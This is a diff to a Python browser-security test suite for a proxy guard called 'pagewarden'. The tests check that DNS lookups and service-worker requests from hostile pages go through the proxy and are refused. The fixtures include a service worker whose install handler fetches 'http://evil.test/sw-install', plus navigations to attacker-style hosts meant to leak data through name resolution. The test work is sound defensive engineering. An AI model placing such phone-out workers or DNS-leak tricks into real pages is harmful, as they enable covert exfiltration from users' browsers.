@@ -19,6 +19,7 @@ from playwright.async_api import Browser
 import pagewarden.proxy as proxy_api
 from pagewarden import launch
 from pagewarden.testing import LocalSite, Response
+from tests.heard import refused_url_async
 from tests.proxy.conftest import policies
 
 pytestmark = pytest.mark.browser
@@ -178,7 +179,7 @@ def net_log(path: Path) -> tuple[list[str], list[str]]:
     return hosts, [address for kind, address in sockets if kind == "TCP_CONNECT_ATTEMPT"]
 
 
-async def _names_run(netsite: LocalSite, log_path: Path) -> tuple[list[str], list[str]]:
+async def _names_run(netsite: LocalSite, log_path: Path) -> tuple[list[str], list[str], int]:
     netsite.route("site.test", "/names.html", lambda r: Response(HOSTILE_NAMES))
     async with launch(
         proxy=True, host_map={"*.test": netsite.port}, policies=ONLY_SITE,
@@ -187,9 +188,11 @@ async def _names_run(netsite: LocalSite, log_path: Path) -> tuple[list[str], lis
         await page.goto("http://site.test/names.html")
         await page.unwrap().hover("#next")
         await page.unwrap().click("#leave")  # the page's own script navigates (raw: not judged)
-        await page.unwrap().wait_for_url("http://nav-secret.evil.test/", timeout=40_000)
+        assert await refused_url_async(page, "http://nav-secret.evil.test/", timeout=40)
         await asyncio.sleep(0.5)
-    return net_log(log_path)
+        session_port = page.guard.network.port
+    hosts, connects = net_log(log_path)
+    return hosts, connects, session_port
 
 
 async def test_chromium_resolves_no_name_itself(netsite: LocalSite, tmp_path: Path) -> None:
@@ -197,10 +200,12 @@ async def test_chromium_resolves_no_name_itself(netsite: LocalSite, tmp_path: Pa
     proxy — a channel beside it (``secret.evil.test`` reaches the attacker's name server).
     Behind the network layer every name maps to the proxy: no name leaves, and every TCP
     connection goes to the proxy."""
-    hosts, connects = await _names_run(netsite, tmp_path / "net.json")
+    hosts, connects, session_port = await _names_run(netsite, tmp_path / "net.json")
     assert hosts, "the net log recorded no resolver request (the test would prove nothing)"
     assert not [h for h in hosts if "secret" in h or "test" in h]
-    assert connects and len({c.rsplit(":", 1)[1] for c in connects}) == 1  # the proxy's port only
+    # the proxy's ports only: the page's go to the session's, Chromium's own to the main one
+    ports = {c.rsplit(":", 1)[1] for c in connects}
+    assert str(session_port) in ports and len(ports) <= 2
     assert all(c.startswith("127.0.0.1:") for c in connects)
     assert [r for r in netsite.requests if r.host.endswith("evil.test")] == []
 
@@ -214,14 +219,20 @@ async def test_control_without_the_resolver_rules_chromium_looks_names_up(
         return tuple(a for a in original(server) if not a.startswith("--host-resolver-rules"))
 
     monkeypatch.setattr(proxy_api, "chromium_proxy_args", without_rules)
-    hosts, _ = await _names_run(netsite, tmp_path / "net.json")
+    hosts, _, _ = await _names_run(netsite, tmp_path / "net.json")
     assert [h for h in hosts if "secret" in h]
 
 
-SERVICE_WORKER = """self.addEventListener('install', e => self.skipWaiting());
+SERVICE_WORKER = """self.addEventListener('install', e => {
+  fetch('http://evil.test/sw-install').catch(() => {});
+  fetch('/sw-own').catch(() => {});
+  self.skipWaiting();
+});
 self.addEventListener('activate', e => e.waitUntil(clients.claim()));
 self.addEventListener('fetch', e => {
-  if (e.request.url.includes('/later')) {
+  if (e.request.url.includes('/through')) {  // a navigation the worker fetches itself
+    e.respondWith(fetch(e.request));
+  } else if (e.request.url.includes('/later')) {
     const headers = {'content-type': 'text/html'};
     e.respondWith(new Response('<title>served by the worker</title>', {headers}));
   }
@@ -233,23 +244,35 @@ window.registration = navigator.serviceWorker.register('/sw.js')
 </script>"""
 
 
-async def test_service_workers_never_answer_the_agents_navigations() -> None:
-    """A worker registered by a page could answer the agent's later navigations itself (and
-    send requests of its own). Behind the network layer the context runs none."""
+async def test_service_workers_run_behind_the_network_layer_and_their_requests_are_judged() -> None:
+    """A service worker a page registers runs behind the network layer as in plain Playwright
+    (it answers navigations in its scope); its own requests arrive on the session's port of the
+    proxy and are judged as the page's: one to the page's host passes, one to a denied host is
+    refused (never a ``no_session`` refusal)."""
     with LocalSite() as site:
         site.route("localhost", "/", lambda r: Response(REGISTER))
         site.route("localhost", "/sw.js", lambda r: Response(SERVICE_WORKER, content_type="text/javascript"))
+        site.route("localhost", "/sw-own", lambda r: Response("own", content_type="text/plain"))
         site.route("localhost", "/later", lambda r: Response("<title>from the server</title>"))
-        async with launch(proxy=True) as page:
+        site.route("localhost", "/through", lambda r: Response("<title>through the worker</title>"))
+        site.route("evil.test", "/sw-install", lambda r: Response("reached", content_type="text/plain"))
+        deny = policies({"domain_deny": ["evil.test"]})
+        async with launch(proxy=True, host_map={"*.test": site.port}, policies=deny) as page:
             await page.goto(f"http://localhost:{site.port}/")
-            await page.unwrap().evaluate("window.registration")
-            await asyncio.sleep(1.0)
+            assert await page.unwrap().evaluate("window.registration") == "registered"
+            await page.unwrap().wait_for_function("!!navigator.serviceWorker.controller", timeout=20_000)
             await page.goto(f"http://localhost:{site.port}/later")
-            assert await page.title() == "from the server"
-            controlled = await page.unwrap().evaluate("!!navigator.serviceWorker.controller")
-        assert site.requests_to("localhost", "/later")
-        assert site.requests_to("localhost", "/sw.js") == []
-        assert controlled is False
+            assert await page.title() == "served by the worker"
+            # the worker fetches the agent's navigation itself: no page's token on it, and it
+            # is judged as the session's (the site is one the tab reached)
+            await page.goto(f"http://localhost:{site.port}/through")
+            assert await page.title() == "through the worker"
+            refusals = list(page.guard.network.refusals)
+        assert site.requests_to("localhost", "/sw.js") and site.requests_to("localhost", "/sw-own")
+        assert site.requests_to("localhost", "/through")
+        assert site.requests_to("evil.test") == []
+        assert [r.url for r in refusals if r.host == "evil.test"] == ["http://evil.test/sw-install"]
+        assert [r for r in refusals if r.rule == "no_session" and r.host in ("localhost", "evil.test")] == []
 
 
 async def test_control_service_worker_answers_without_the_network_layer(plain_browser: Browser) -> None:
